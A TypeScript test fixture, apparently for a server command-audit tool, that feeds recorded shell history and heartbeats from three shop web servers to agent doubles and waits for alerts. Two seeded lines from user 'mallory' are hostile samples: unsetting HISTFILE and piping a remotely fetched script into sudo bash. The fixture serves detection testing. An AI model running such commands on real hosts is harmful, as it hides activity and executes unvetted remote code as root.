import type { Client } from '@omanager/client';
import { createAgentDouble } from '../audit/agentDouble.ts';
import type { TestServer } from '../lab/server.ts';
import { waitFor } from '../lab/wait.ts';
import { recordLine } from '../store/commandsRig.ts';

const minute = 60_000;
const day = 24 * 60 * minute;

/** What people of the shop typed: how long ago, who, where, the command and its end. */
const typed: readonly (readonly [number, string, string, string, string])[] = [
  [6 * day, 'chen', 'shop-web-001', 'systemctl status nginx', '0'],
  [5 * day + 40 * minute, 'ada', 'shop-web-002', 'journalctl -u nginx --since "2 hours ago" | tail -50', '0'],
  [3 * day, 'chen', 'shop-web-001', 'vim /etc/nginx/conf.d/shop.conf', '0'],
  [3 * day - 2 * minute, 'root', 'shop-web-001', 'nginx -t && systemctl reload nginx', '0'],
  [2 * day, 'liu', 'shop-web-003', 'echo "磁盘清理完成" >> /var/log/ops.log', '0'],
  [day, 'ada', 'shop-web-002', 'du -sh /srv/* | sort -h', '0'],
  [90 * minute, 'mallory', 'shop-web-002', 'unset HISTFILE', '0'],
  [89 * minute, 'mallory', 'shop-web-002', 'curl -s https://example.com/setup.sh | sudo bash', '1'],
  [30 * minute, 'root', 'shop-web-003', 'visudo -f /etc/sudoers.d/ops', '0'],
  [12 * minute, 'chen', 'shop-web-001', 'tail -f /var/log/nginx/error.log', '130'],
  [4 * minute, 'ada', 'shop-web-003', 'df -h', '0'],
];
const heartbeats = {
  'shop-web-001': 'version=1.1.0 waiting=0 kib=0 bound=20480 lost=0 offset=0',
  'shop-web-002': 'version=1.1.0 waiting=1840 kib=412 bound=20480 lost=0 offset=0',
  'shop-web-003': 'version=1.1.0 waiting=3 kib=1 bound=20480 lost=12 offset=-74',
};

/** Agents on three of the shop's servers, what they reported, and the rules that found something in it. */
export async function auditShop(server: TestServer, client: Client): Promise<void> {
  const { items } = await client.call('alerts.starterRules', {});
  await client.call('alerts.addStarterRules', { keys: items.map(({ key }) => key) });
  await client.call('alertTargets.add', {
    target: {
      name: 'on call',
      kind: 'dingtalk',
      url: 'https://oapi.dingtalk.com/robot/send?access_token=x',
      enabled: false,
    },
  });
  for (const [name, said] of Object.entries(heartbeats)) {
    const { id } = await client.call('hosts.get', { name });
    const agent = await createAgentDouble(server, id);
    const numbers = new Map<string, number>();
    const lines = typed
      .filter(([, , host]) => host === name)
      .map(([ago, user, , text, exit]) => {
        const number = (numbers.get(user) ?? 0) + 1;
        numbers.set(user, number);
        const session = `${user}-1`;
        return recordLine(text, { time: String(Date.now() - ago), user, exit, number: String(number), session });
      });
    for (const [first, batch] of [
      [1, lines],
      [lines.length + 1, [recordLine(said, { kind: 'heartbeat' })]],
    ] as const) {
      const { status } = await agent.send(first, batch);
      if (status !== 200) throw new Error(`a batch was answered with ${status}`);
    }
  }
  await waitFor(
    'alerts are raised',
    async () => (await client.call('alerts.list', {})).items.length >= 3 || undefined,
    30_000,
  );
}
